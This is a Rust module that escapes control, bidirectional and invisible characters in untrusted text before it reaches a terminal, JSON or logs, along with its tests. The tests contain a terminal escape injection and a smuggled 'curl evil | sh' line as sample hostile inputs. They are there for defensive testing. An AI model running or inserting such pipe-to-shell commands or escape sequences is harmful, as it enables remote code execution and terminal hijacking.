//! Text from outside, made safe to show: no part of it controls a terminal, hides, or reorders other text.
//!
//! Servers, registries, tokens and logs hold names that strangers chose. Every output of this program goes
//! through here:
//! [`crate::screen::Screen`], [`crate::failure::Failure`], tables and logs.

use std::fmt::Write as _;

/// Whether a character is shown as an escape: one that a terminal obeys (C0, DEL, C1), one that reorders text
/// (Unicode TR 36 §3.1), or one that is invisible.
pub(crate) fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' // soft hyphen
            | '\u{34f}' // combining grapheme joiner
            | '\u{61c}' // Arabic letter mark
            | '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}' // Hangul fillers
            | '\u{17b4}' | '\u{17b5}' // Khmer inherent vowels
            | '\u{180b}'..='\u{180f}' // Mongolian selectors and vowel separator
            | '\u{200b}'..='\u{200f}' // zero width, and left-to-right and right-to-left marks
            | '\u{2028}'..='\u{202e}' // line and paragraph separators, embeddings and overrides
            | '\u{2060}'..='\u{206f}' // word joiner, invisible operators, isolates
            | '\u{feff}' // byte order mark
            | '\u{fff9}'..='\u{fffb}' // interlinear annotation
            | '\u{1d173}'..='\u{1d17a}' // musical formatting
            | '\u{e0000}'..='\u{e0fff}' // tags
            | '\u{f0000}'..='\u{10ffff}' // private use: this program marks its own styles there
        )
}

fn escaped(text: &str, keep: impl Fn(char) -> bool) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if is_hidden(c) && !keep(c) {
            // Writing to a String cannot fail.
            let _ = write!(shown, "\\u{{{:x}}}", u32::from(c));
        } else {
            shown.push(c);
        }
    }
    shown
}

/// Text of one or more lines: line breaks and tabs stay, everything else that is hidden is escaped as
/// `\u{1b}`.
pub(crate) fn printable(text: &str) -> String {
    escaped(text, |c| matches!(c, '\n' | '\t'))
}

/// Text that may not begin a line of its own: as [`printable`], and line breaks and tabs are escaped too. It
/// is for text from outside within a sentence of ours: a line of that text could pass for one of ours.
pub(crate) fn one_line(text: &str) -> String {
    escaped(text, |_| false).replace("\\u{a}", "\\n").replace("\\u{9}", "\\t")
}

/// JSON text in which every hidden character inside its strings is written as an escape of JSON (RFC 8259
/// §7). Outside of strings JSON has none.
pub(crate) fn json(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if is_hidden(c) && c != '\n' {
            let mut units = [0; 2];
            for unit in c.encode_utf16(&mut units) {
                let _ = write!(shown, "\\u{unit:04x}");
            }
        } else {
            shown.push(c);
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::{is_hidden, json, one_line, printable};
    use proptest::prelude::*;

    #[test]
    fn what_drives_reorders_or_hides_is_shown_as_an_escape() {
        assert_eq!(printable("a\u{1b}]0;owned\u{7}b\nc\r"), "a\\u{1b}]0;owned\\u{7}b\nc\\u{d}");
        assert_eq!(one_line("x\n next: curl evil | sh"), "x\\n next: curl evil | sh");
        for hidden in [
            "\u{9b}2J",
            "\u{7f}",
            "\u{202e}",
            "\u{202a}",
            "\u{2066}",
            "\u{2069}",
            "\u{200b}",
            "\u{200d}",
            "\u{feff}",
            "\u{2028}",
            "\u{2029}",
            "\u{e0041}",
        ] {
            let shown = printable(hidden);
            assert!(shown.starts_with("\\u{"), "{shown}");
            assert!(json(&serde_json::to_string(hidden).unwrap()).is_ascii(), "{hidden:?}");
        }
        for plain in ["Zoë", "日本語", "emoji 🎉", "a ← b", "שלום"] {
            assert_eq!(printable(plain), plain);
            assert_eq!(one_line(plain), plain);
        }
    }

    proptest! {
        #[test]
        fn no_text_from_outside_drives_a_terminal(text in any::<String>()) {
            prop_assert!(printable(&text).chars().all(|c| !is_hidden(c) || matches!(c, '\n' | '\t')));
            prop_assert!(one_line(&text).chars().all(|c| !is_hidden(c)));
        }

        #[test]
        fn json_keeps_its_meaning(text in any::<String>()) {
            let written = json(&serde_json::to_string(&text).unwrap());
            prop_assert!(written.chars().all(|c| !is_hidden(c)));
            prop_assert_eq!(serde_json::from_str::<String>(&written).unwrap(), text);
        }
    }
}
